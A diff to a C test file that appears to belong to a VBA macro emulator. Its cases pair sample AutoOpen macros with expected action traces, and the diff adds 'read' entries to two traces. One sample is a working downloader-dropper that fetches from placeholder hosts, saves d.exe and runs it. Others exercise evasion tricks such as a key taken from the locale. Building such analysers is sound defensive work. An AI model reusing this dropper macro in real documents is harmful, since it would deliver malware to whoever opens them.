@@ -55,7 +55,7 @@ static const habit habits[] = {
      "Sub AutoOpen()\nOn Error Resume Next\nFor Each u In Split(\"http://a.example/1,http://b.example/2,http://c.example/3\", \",\")\n"
      "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", u, False\nh.send\nIf h.Status = 200 Then\nSet s = CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\n"
      "s.Write h.responseBody\ns.SaveToFile \"C:\\Users\\d.exe\", 2\nShell \"C:\\Users\\d.exe\"\nExit For\nEnd If\nNext\nEnd Sub\n",
-     "download: http://a.example/1\ndownload: http://b.example/2\ndownload: http://c.example/3\ndownload: http://a.example/1\nwrite: C:\\Users\\d.exe\nrun: C:\\Users\\d.exe\n"},
+     "download: http://a.example/1\ndownload: http://b.example/2\ndownload: http://c.example/3\ndownload: http://a.example/1\nread: http://a.example/1\nwrite: C:\\Users\\d.exe\nrun: C:\\Users\\d.exe\n"},
     {"an unknown function thrown in goes on",
      "Sub AutoOpen()\nx = NoSuchFunction(\"a\", 1)\nSet o = CreateObject(\"No.Such.Object\")\no.Member(1).Other = 5\nShell \"eight.invalid\"\nEnd Sub\n", "run: eight.invalid\n"},
     {"an error that nobody handles is passed", "Sub AutoOpen()\nx = 1 / 0\nShell \"nine.invalid\"\nEnd Sub\n", "run: nine.invalid\n"},
@@ -124,7 +124,7 @@ static const habit habits[] = {
      "run: t.invalid\n"},
     {"a form that is not there", "Sub AutoOpen()\nShell LostForm.Text1.Tag & \".invalid\"\nEnd Sub\n", "run: {LostForm.Text1.Tag}.invalid\n"},
     {"the length of what was fetched", "Sub AutoOpen()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://a.example/x\", False\nh.send\nIf LenB(h.responseBody) > 2000 Then MsgBox \"enough\"\nEnd Sub\n",
-     "download: http://a.example/x\ndownload: http://a.example/x\nmessage: enough\n"},
+     "download: http://a.example/x\nread: http://a.example/x\ndownload: http://a.example/x\nmessage: enough\n"},
     {"a small array in a long loop", "Sub AutoOpen()\nFor i = 1 To 30000\nd = Array(7, 8)\nNext\nMsgBox d(1)\nEnd Sub\n", "message: 8\n"},
     {"letter by letter over a long text", "Sub AutoOpen()\ns = String(40000, \"a\")\nFor i = 1 To Len(s)\nx = Mid(s, i, 1)\nNext\nMsgBox \"done\"\nEnd Sub\n", "message: done\n"},
     {"the country as a key", "Sub AutoOpen()\nFor Each c In Array(180, 190, 181)\ns = s & Chr(c - Application.International(xlCountrySetting))\nNext\n"
